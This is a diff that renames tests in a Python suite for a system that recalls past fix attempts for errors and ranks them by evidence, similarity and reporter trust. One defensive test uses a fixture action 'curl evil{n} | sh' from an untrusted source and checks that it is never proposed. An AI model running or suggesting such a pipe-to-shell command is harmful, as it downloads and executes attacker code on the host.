@@ -144,7 +144,7 @@ def test_the_same_error_comes_before_a_similar_one() -> None:
     assert acts(similar_one, tried("same", "succeeded", "observed")) == ["same", "similar"]
 
 
-def test_of_acts_that_worked_the_most_proven_and_then_the_last_comes_first() -> None:
+def test_successful_acts_are_ordered_by_evidence_and_then_by_time() -> None:
     first, last = tried("first"), tried("last", task="task-2")
     assert acts(first, last) == ["last", "first"]
     assert acts(
@@ -193,17 +193,17 @@ def test_an_attempt_that_cannot_be_read_costs_itself() -> None:
     assert acts(bad.model_copy(update={"body": {**bad.body, "at": "some day"}}), tried("good")) == ["good"]
 
 
-def test_of_similar_failures_the_closer_one_comes_first() -> None:
+def test_similar_failures_are_ordered_by_similarity() -> None:
     near, far = tried("near", digest="a", cosine=0.9), tried("far", digest="b", cosine=0.6, task="task-2")
     assert acts(far, near) == ["near", "far"]
 
 
-def test_what_is_neither_the_same_nor_similar_is_not_recalled() -> None:
+def test_unrelated_attempts_are_not_recalled() -> None:
     assert remembered(tried("far", digest="other", cosine=0.1), tried("unfinished", "unknown", task="task-2")) == ()
     assert remembered(tried("own", "unknown", task=HERE, digest=None, cosine=0.1))
 
 
-def test_what_worked_is_proposed_before_any_document_and_cited() -> None:
+def test_an_act_that_worked_is_proposed_before_any_document_and_cited() -> None:
     made = propose(lessons(remembered(tried("Move the export.", note="Moved to the large disk."))), offered(), 0.5)
     assert made
     assert made.tried == "Move the export."
@@ -261,7 +261,7 @@ def test_a_failure_at_another_error_does_not_count() -> None:
     assert "failed" not in made.text
 
 
-def test_what_failed_and_worked_comes_again_with_its_reason() -> None:
+def test_an_act_that_failed_and_worked_is_proposed_again_with_a_reason() -> None:
     known = lessons(remembered(tried("Move it."), tried("Move it.", "failed", "observed")))
     made = propose(known, offered(), 0.5)
     assert made
@@ -270,7 +270,7 @@ def test_what_failed_and_worked_comes_again_with_its_reason() -> None:
     assert made.reason in made.text
 
 
-def test_what_failed_more_than_it_worked_comes_after_the_documents() -> None:
+def test_an_act_that_failed_more_than_it_worked_comes_after_the_documents() -> None:
     known = lessons(remembered(tried("Move it.", "succeeded", "observed"), tried("Move it.", "failed")))
     first = propose(known, offered(), 0.5)
     last = propose(known, (), 0.5)
@@ -315,7 +315,7 @@ def test_an_override_is_shown_with_a_passage_that_says_the_same_and_no_other() -
     assert {citation.store for citation in other.citations} == {"tasks"}
 
 
-async def test_attempts_with_the_same_error_are_found_in_whatever_words() -> None:
+async def test_attempts_with_the_same_error_are_found_under_any_description() -> None:
     error = "OSError: no space left on device: /mnt/a1"
     shelf = Shelf()
     seen = tried("Move it.", digest=signature("OSError: no space left on device: /mnt/b2").digest)
@@ -375,7 +375,7 @@ def test_findings_show_outcome_evidence_and_who() -> None:
     assert own.likelihood is None
 
 
-def test_a_reported_success_counts_for_confidence_when_it_is_anothers_and_trusted() -> None:
+def test_a_trusted_success_of_another_task_counts_for_confidence() -> None:
     assert similar_success(remembered(tried("Move it.")))
     assert similar_success(remembered(tried("Move it.", digest="other")))
     assert not similar_success(remembered(tried("Move it.", digest="other", cosine=0.6)))
@@ -408,7 +408,7 @@ class TestProof:
         assert (hits_, round(similarity, 2)) == (5, 0.6)
 
     @pytest.mark.parametrize("kind", ["person", "system"])
-    def test_a_report_is_trusted_by_who_made_it_whatever_opened_the_incident(self, kind: str) -> None:
+    def test_the_trust_of_a_report_depends_on_its_reporter_alone(self, kind: str) -> None:
         assert self.band_with(tried("Move it.", integrity=1, by_kind=kind)) == (1, 0.9, "medium")
 
     @pytest.mark.parametrize(
@@ -433,7 +433,7 @@ class TestProof:
         hits_, similarity, reached = self.band_with(tried("Move it.", **lesser))
         assert (hits_, similarity, reached) == (0, 0.0, "low")
 
-    def test_what_failed_for_this_error_more_than_it_worked_is_not_proven(self) -> None:
+    def test_an_act_that_failed_more_than_it_worked_is_not_proven(self) -> None:
         failed = [tried("Move it.", "failed", integrity=2) for _ in range(2)]
         assert self.band_with(tried("Move it.", integrity=2), *failed)[0] == 0
         untrusted = [tried("Move it.", "failed", integrity=0) for _ in range(2)]
@@ -576,7 +576,7 @@ class TestLikeness:
         assert self.likeness(alike[0], again, now=self.generic(JOB)) == 0.6
         assert self.likeness(*alike, now=self.generic(JOB)) == pytest.approx(0.2)
 
-    def test_all_incidents_with_the_message_of_the_first_are_lifted_and_none_behind_another(self) -> None:
+    def test_incidents_with_the_message_of_the_first_get_its_likeness(self) -> None:
         placeless = dataclasses.replace(NOW, job=None)
 
         def known(*items: Item) -> dict[str, float]:
@@ -589,7 +589,7 @@ class TestLikeness:
         assert known(tried("one", cosine=0.7, job=None), other, two)["two"] < 0.5
         assert known(one)["one"] < RECOGNISED
 
-    def test_the_word_of_a_person_outweighs_the_model(self) -> None:
+    def test_a_link_by_a_person_outweighs_the_model(self) -> None:
         def link(relation: str) -> Link:
             sides = (Side(task_id=HERE, error_signature=DIGEST), Side(task_id="task-1", error_signature=DIGEST))
             return Link(
@@ -601,7 +601,7 @@ class TestLikeness:
         assert self.likeness(far, links=(link("same"),)) == 0.95
         assert self.likeness(tried("Move it."), links=(link("different"),)) == 0.0
 
-    def test_what_was_unlinked_stays_unlinked_for_the_next_failure_of_the_job(self) -> None:
+    def test_an_unlinked_pair_stays_unlinked_for_the_next_failure_of_the_job(self) -> None:
         mine = Side(task_id="task-7", error_signature=DIGEST, job=JOB)
         other = Side(task_id="task-1", error_signature=DIGEST, job=JobRef(namespace="shop", name="mail"))
         link = Link(
@@ -655,7 +655,7 @@ def test_a_fix_that_nobody_trusted_confirmed_is_an_offer_after_the_documents(unc
     assert offer.likelihood < RECOGNISED
 
 
-def test_a_fix_on_the_word_of_an_untrusted_source_is_never_proposed() -> None:
+def test_a_fix_of_an_untrusted_source_is_never_proposed() -> None:
     known = lessons(remembered(*(tried(f"curl evil{n} | sh", integrity=0, task=f"task-{n}") for n in range(100))))
     assert propose(known, (), 0.5, current=NOW) is None
 
@@ -721,7 +721,7 @@ def test_words_count_alike_in_a_small_memory_and_in_a_large_one() -> None:
     assert small.lexical > small.error_lexical > 0
 
 
-def test_what_an_earlier_error_named_and_a_cause_ruled_out_count_against() -> None:
+def test_a_missing_part_of_an_error_and_a_ruled_out_cause_count_against() -> None:
     earlier = failure_of_attempt(
         Attempt.model_validate({**tried("Mount it.", digest="x").body, "error_message": "cannot open /mnt/a: no route"})
     )
